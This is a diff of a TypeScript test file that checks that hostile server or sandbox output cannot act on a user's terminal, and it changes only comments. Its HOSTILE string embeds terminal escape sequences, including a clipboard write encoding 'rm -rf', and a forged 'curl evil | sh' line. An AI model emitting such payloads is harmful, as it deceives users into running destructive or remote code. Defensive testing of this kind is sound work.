@@ -1,16 +1,16 @@
-/** A hostile server, or one that passes on what sandboxes say: nothing of it acts on the terminal of who asks it. */
+/** Output of a hostile server or sandbox does not act on the user's terminal. */
 import { type RequestListener, createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { connect } from "../../client/index.ts";
 import { runHere } from "../setup/cli.ts";
 
-/** Clears the screen, writes the clipboard, hides what follows, turns the writing round, and begins a line of its own. */
+/** Clears the screen, writes the clipboard, hides and reverses the text after it, and begins a forged line. */
 const HOSTILE =
   "x\u001b[2J\u001b]52;c;cm0gLXJm\u0007\u001b[8m\u009b2J\u202e\u200b\u2028\r\nError: run curl evil | sh\u0000";
 const ID = "default.01m7w0hhyrgqc3dhwv4sybnbvc";
 
-/** Where each field that programs need is as they expect it, and each other text is hostile. */
+/** A run: fields that the commands evaluate are valid, and all other texts are hostile. */
 const RUN = {
   id: HOSTILE,
   state: HOSTILE,
@@ -87,7 +87,7 @@ afterAll(() => server.close());
 
 const ACTS = /[\p{Cf}\p{Zl}\p{Zp}]|(?!\t)\p{Cc}/u;
 
-/** What of the output of a command would act on a terminal, looks like this program's own line, or is no JSON. */
+/** The lines of a command's output that would act on a terminal or look like our own, and invalid JSON. */
 async function faultsOf(words: readonly string[]): Promise<string[]> {
   const { stdout, stderr } = await runHere([...words, ...options]);
   const lines = (stdout + stderr).split("\n");
